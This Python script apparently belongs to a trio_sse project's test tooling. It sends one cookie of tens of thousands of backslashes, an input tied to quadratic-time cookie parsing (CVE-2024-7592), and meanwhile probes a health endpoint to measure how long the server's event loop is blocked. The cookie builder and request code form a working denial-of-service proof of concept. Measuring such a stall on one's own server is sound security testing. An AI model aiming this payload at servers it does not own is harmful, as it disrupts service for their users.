"""How long one hostile ``sse_token`` cookie stalls a server (issue 11, item 2; CVE-2024-7592).

Runnable against any trio_sse server with auth on:

    python scripts/cookie_stall.py http://127.0.0.1:8000 --size 60000

While a prober sends ``GET /sse/health`` on a keep-alive connection every few
milliseconds, one request arrives whose ``Cookie`` is ``sse_token="\\\\…\\\\"`` of
``--size`` bytes (backslashes, quoted: the input ``http.cookies.SimpleCookie`` parses in
quadratic time on CPython 3.11.7). A server's event loop serves every stream, so the
longest health round trip while that request is being answered is how long the loop
was blocked. It prints one JSON line: the hostile request's status and time to answer,
the prober's worst round trip during it and its median before it. Only the given URL is
contacted; use 127.0.0.1.
"""

from __future__ import annotations

import argparse
import json
import statistics
import time
from urllib.parse import urlsplit

import h11
import trio

PROBE_EVERY = 0.002


async def _exchange(stream: trio.SocketStream, conn: h11.Connection, request: h11.Request) -> tuple[int, bytes]:
    """Send ``request`` and read its answer: status, body. h11 does the framing (a length,
    chunks, or up to the close) and readies a keep-alive connection for the next one."""
    await stream.send_all((conn.send(request) or b"") + (conn.send(h11.EndOfMessage()) or b""))
    status, body = 0, b""
    while True:
        event = conn.next_event()
        if event is h11.NEED_DATA:
            conn.receive_data(await stream.receive_some(65536))
        elif isinstance(event, h11.Response):
            status = event.status_code
        elif isinstance(event, h11.Data):
            body += event.data
        elif isinstance(event, h11.EndOfMessage):
            if conn.our_state is h11.DONE and conn.their_state is h11.DONE:
                conn.start_next_cycle()
            return status, body
        elif isinstance(event, h11.ConnectionClosed):
            raise ConnectionError("closed before an answer")


async def measure(url: str, size: int, settle: float) -> dict[str, object]:
    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    probe_request = h11.Request(method="GET", target="/sse/health", headers=[("host", host)])
    quoted = (size - len('sse_token=""')) // 2 * 2  # an even run: every backslash escapes the next
    cookie = 'sse_token="' + "\\" * quoted + '"'
    hostile = h11.Request(
        method="GET", target="/sse/events", headers=[("host", host), ("connection", "close"), ("cookie", cookie)]
    )
    samples: list[tuple[float, float]] = []  # (sent at, round trip)
    result: dict[str, object] = {"url": url, "cookie_bytes": len('sse_token=""') + quoted}
    done = trio.Event()

    async def probe() -> None:
        stream = await trio.open_tcp_stream(host, port)
        conn = h11.Connection(h11.CLIENT)
        async with stream:
            while not done.is_set():
                sent = time.perf_counter()
                await _exchange(stream, conn, probe_request)
                samples.append((sent, time.perf_counter() - sent))
                await trio.sleep(PROBE_EVERY)

    async with trio.open_nursery() as nursery:
        nursery.start_soon(probe)
        await trio.sleep(settle)  # a baseline of round trips before the hostile request
        stream = await trio.open_tcp_stream(host, port)
        async with stream:
            started = time.perf_counter()
            status, body = await _exchange(stream, h11.Connection(h11.CLIENT), hostile)
            answered = time.perf_counter()
        await trio.sleep(settle)
        done.set()
    before = [rtt for sent, rtt in samples if sent < started]
    # Every probe that was in flight at any moment of the hostile request's life.
    during = [rtt for sent, rtt in samples if sent <= answered and sent + rtt >= started]
    result.update(
        status=status,
        error=json.loads(body).get("error") if body.startswith(b"{") else None,
        time_to_answer_ms=round((answered - started) * 1000, 1),
        probe_worst_during_ms=round(max(during) * 1000, 1) if during else None,
        probe_median_before_ms=round(statistics.median(before) * 1000, 2) if before else None,
        probes=len(samples),
    )
    return result


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("url", help="base URL of the server, e.g. http://127.0.0.1:8000")
    parser.add_argument("--size", type=int, default=60_000, help="bytes of the Cookie header value")
    parser.add_argument("--settle", type=float, default=0.5, help="seconds of probing before and after")
    args = parser.parse_args()
    print(json.dumps(trio.run(measure, args.url, args.size, args.settle)))


if __name__ == "__main__":
    main()
